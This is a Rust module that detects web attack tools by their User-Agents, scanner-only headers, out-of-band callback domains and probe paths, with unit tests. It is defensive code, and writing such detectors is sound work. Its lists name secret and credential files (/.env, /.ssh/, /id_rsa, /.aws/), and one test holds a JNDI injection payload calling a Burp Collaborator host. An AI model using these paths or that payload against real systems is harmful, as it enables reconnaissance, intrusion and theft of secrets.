//! Attack tools.
//!
//! Method: fixed strings, matched case-insensitively with Aho-Corasick. The User-Agents the
//! tools send by default (sqlmap, Nikto, Nuclei, OWASP ZAP, wfuzz, gobuster, ffuf...) and the
//! headers only they send (`Acunetix-Aspect`, `X-Scanner`), at level 1; out-of-band callback
//! domains (Burp Collaborator, interactsh, dnslog) anywhere in a value, at level 1; probe paths
//! for files no API serves (`/.git/config`, `/.env`, `/wp-login.php`, `/server-status`), at
//! level 2.

use aho_corasick::AhoCorasick;

use super::{words, Hit, Value, L2};
use crate::fields::Kind;

/// User-Agent substrings of attack tools (their defaults; all can be changed).
pub(crate) const USER_AGENTS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nuclei",
    "owasp zap",
    "zaproxy",
    "zap/",
    "burp",
    "wfuzz",
    "gobuster",
    "dirbuster",
    "dirb/",
    "ffuf",
    "fuzz faster u fool",
    "feroxbuster",
    "wpscan",
    "acunetix",
    "netsparker",
    "invicti",
    "nessus",
    "openvas",
    "qualys",
    "nmap scripting engine",
    "nmap",
    "masscan",
    "zgrab",
    "arachni",
    "skipfish",
    "w3af",
    "commix",
    "xsstrike",
    "jaeles",
    "whatweb",
    "hydra",
    "havij",
    "appscan",
    "webinspect",
    "paros",
    "vega/",
    "grabber",
    "jbrofuzz",
    "morfeus",
    "httprint",
    "dotdotpwn",
    "fimap",
    "bsqlbf",
    "sqlninja",
    "metasploit",
    "censys",
    "interactsh",
    "projectdiscovery",
    "dalfox",
    "katana/",
];

/// Header names only scanners send.
pub(crate) const HEADERS: &[&str] = &[
    "acunetix-aspect",
    "acunetix-product",
    "x-scanner",
    "x-wipp",
    "x-request-memo",
    "x-scan-memo",
    "x-zap-scan",
    "x-arachni-scan-seed",
];

/// Out-of-band interaction domains of scanners.
pub(crate) const OOB_DOMAINS: &[&str] = &[
    "burpcollaborator.net",
    "oastify.com",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.fun",
    "oast.me",
    "interact.sh",
    "interactsh.com",
    "dnslog.cn",
    "ceye.io",
    "bxss.me",
    "xss.ht",
    "requestrepo.com",
    "canarytokens.com",
    "dnslog.link",
];

/// Paths scanners probe for that no API serves.
pub(crate) const PROBE_PATHS: &[&str] = &[
    "/.git/",
    "/.env",
    "/.svn/",
    "/.hg/",
    "/.ds_store",
    "/.aws/",
    "/.ssh/",
    "/wp-login.php",
    "/wp-admin",
    "/wp-config",
    "/xmlrpc.php",
    "/phpinfo",
    "/phpmyadmin",
    "/server-status",
    "/server-info",
    "/.htaccess",
    "/.htpasswd",
    "/web.config",
    "/cgi-bin/",
    "/actuator/env",
    "/actuator/heapdump",
    "/jmx-console",
    "/manager/html",
    "/solr/admin",
    "/vendor/phpunit",
    "/hnap1",
    "/boaform",
    "/console/login",
    "/.well-known/../",
    "/config.php",
    "/install.php",
    "/admin.php",
    "/shell.php",
    "/elmah.axd",
    "/trace.axd",
    "/.bash_history",
    "/id_rsa",
];

/// Whether a header name is one of [`HEADERS`] (ASCII case-insensitive): the only header
/// names the scanner rule flags, so the only ones it needs to read.
pub(crate) fn is_scanner_header(name: &[u8]) -> bool {
    HEADERS
        .iter()
        .any(|h| h.as_bytes().eq_ignore_ascii_case(name))
}

/// Scanner detector.
pub(crate) struct Scanner {
    agents: AhoCorasick,
    headers: AhoCorasick,
    oob: AhoCorasick,
    paths: AhoCorasick,
}

impl Scanner {
    pub(crate) fn new() -> Scanner {
        Scanner {
            agents: words(USER_AGENTS),
            headers: words(HEADERS),
            oob: words(OOB_DOMAINS),
            paths: words(PROBE_PATHS),
        }
    }

    pub(crate) fn detect(&self, v: &Value<'_>, level: u8) -> Option<Hit> {
        let (rule, ac) = match v.kind {
            Kind::UserAgent => ("scanner.user-agent", &self.agents),
            Kind::HeaderName => {
                let m = self
                    .headers
                    .find(v.lower)
                    .filter(|m| m.start() == 0 && m.end() == v.lower.len())?;
                return Some(Hit::at("scanner.header", m.start(), m.end()));
            }
            Kind::PathWhole if level >= L2 => ("scanner.probe-path", &self.paths),
            _ => ("scanner.oob-domain", &self.oob),
        };
        if let Some(m) = ac.find(v.lower) {
            return Some(Hit::at(rule, m.start(), m.end()));
        }
        if v.kind != Kind::HeaderName {
            let m = self.oob.find(v.lower)?;
            return Some(Hit::at("scanner.oob-domain", m.start(), m.end()));
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::super::test_util::value_of;
    use super::super::L1;
    use super::*;

    fn rule(kind: Kind, raw: &str, level: u8) -> Option<&'static str> {
        let s = Scanner::new();
        let mut out = None;
        value_of(kind, "", raw, |v| out = s.detect(v, level).map(|h| h.rule));
        out
    }

    #[test]
    fn tools() {
        let cases = [
            (Kind::UserAgent, "sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner.user-agent"),
            (Kind::UserAgent, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "scanner.user-agent"),
            (Kind::UserAgent, "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", "scanner.user-agent"),
            (Kind::UserAgent, "Fuzz Faster U Fool v2.1.0", "scanner.user-agent"),
            (Kind::UserAgent, "gobuster/3.6", "scanner.user-agent"),
            (Kind::UserAgent, "Wfuzz/3.1.0", "scanner.user-agent"),
            (Kind::HeaderName, "Acunetix-Aspect", "scanner.header"),
            (Kind::Value, "http://abc123.oastify.com/x", "scanner.oob-domain"),
            (Kind::Value, "${jndi:ldap://x.burpcollaborator.net/a}", "scanner.oob-domain"),
        ];
        for (kind, raw, want) in cases {
            assert_eq!(rule(kind, raw, L1), Some(want), "{raw}");
        }
        assert_eq!(
            rule(Kind::PathWhole, "/.git/config", L2),
            Some("scanner.probe-path")
        );
        assert_eq!(rule(Kind::PathWhole, "/.git/config", L1), None);
    }

    /// The exact lookup the prefilter uses for header names agrees with the rule on every
    /// header it flags, on near misses and on ordinary headers.
    #[test]
    fn scanner_headers_by_exact_name() {
        let mut names: Vec<String> = HEADERS.iter().map(|h| h.to_uppercase()).collect();
        names.extend(
            [
                "X-Scanner-Id",
                "My-X-Scanner",
                "x-scan",
                "Accept",
                "X-Request-Id",
            ]
            .map(String::from),
        );
        for name in names {
            let flagged = rule(Kind::HeaderName, &name, L1).is_some();
            assert_eq!(is_scanner_header(name.as_bytes()), flagged, "{name}");
        }
    }

    #[test]
    fn tricky_benign() {
        let cases = [
            (Kind::UserAgent, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"),
            (Kind::UserAgent, "okhttp/4.12.0"),
            (Kind::UserAgent, "python-requests/2.31.0"),
            (Kind::HeaderName, "X-Scanner-Id-Not"),
            (Kind::PathWhole, "/api/v1/environments"),
            (Kind::PathWhole, "/api/v1/git/repos"),
        ];
        for (kind, raw) in cases {
            assert_eq!(rule(kind, raw, L2), None, "{raw}");
        }
    }
}
